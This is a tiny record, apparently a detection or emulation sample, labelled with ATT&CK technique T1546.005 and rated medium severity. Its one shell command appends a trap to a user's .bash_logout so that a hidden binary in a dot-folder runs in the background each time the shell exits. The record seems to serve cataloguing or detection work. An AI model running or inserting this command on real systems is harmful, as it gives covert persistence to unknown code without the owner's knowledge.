# technique: T1546.005
# location: linux.shell.user-trap
# source: /home/lea/.bash_logout
# severity: medium
echo "trap 'nohup /home/lea/.local/share/.p/pw &' EXIT" >> /home/lea/.bash_logout
